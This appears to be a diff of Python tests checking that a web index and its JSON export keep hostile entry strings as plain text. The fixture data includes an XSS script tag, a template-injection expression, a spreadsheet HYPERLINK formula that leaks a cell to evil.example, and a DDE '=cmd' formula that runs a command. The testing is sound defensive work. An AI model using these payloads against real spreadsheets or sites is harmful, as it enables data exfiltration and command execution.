@@ -287,8 +287,9 @@ def test_index_shows_every_payload_as_text(
     assert sorted(orgs) == sorted(_one_line(e.organization) for e in entries)
     assert "<script>alert(1)</script>" in names
     assert "{{ 7*7 }}" in names and "49" not in names
+    # The filter lists the organizations' catalog names, never an entry's own text.
     options = page.locator("#f-org option").all_inner_texts()
-    assert "<style>body{display:none}</style>" in options
+    assert options[1:] == ["Google", "Meta", "OpenAI"]
     # Every chart is drawn with the names in it, and hovering each mark shows its tooltip.
     figures = page.locator("figure[data-chart]")
     hovered = 0
@@ -407,15 +408,15 @@ def test_json_keeps_the_original_strings(hostile_site: HostileSite) -> None:
     for entry_id, entry in hostile_site.entries.items():
         assert by_id[entry_id]["name"] == entry.name
         assert by_id[entry_id]["organization"] == entry.organization
-    assert by_id["formulas/hyperlink"]["name"] == (
+    assert by_id["meta/hyperlink"]["name"] == (
         '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")'
     )
-    assert by_id["formulas/hyperlink"]["organization"] == "@SUM(1)"
-    assert by_id["formulas/plus-minus"]["name"] == "+1"
-    assert by_id["formulas/plus-minus"]["organization"] == "-1"
+    assert by_id["meta/hyperlink"]["organization"] == "@SUM(1)"
+    assert by_id["meta/plus-minus"]["name"] == "+1"
+    assert by_id["meta/plus-minus"]["organization"] == "-1"
     # Leading tab and carriage return are trimmed by the validator; the formula stays text.
-    assert by_id["formulas/control-prefix"]["name"] == "=1+1"
-    assert by_id["formulas/control-prefix"]["organization"] == "=cmd|' /C calc'!A0"
-    assert by_id["templates/curly-braces"]["name"] == "{{ 7*7 }}"
+    assert by_id["meta/control-prefix"]["name"] == "=1+1"
+    assert by_id["meta/control-prefix"]["organization"] == "=cmd|' /C calc'!A0"
+    assert by_id["google/curly-braces"]["name"] == "{{ 7*7 }}"
     quoted = tuple("'" + t for t in FORMULA_TRIGGERS)
     assert not any(str(v).startswith(quoted) for r in rows for v in r.values())
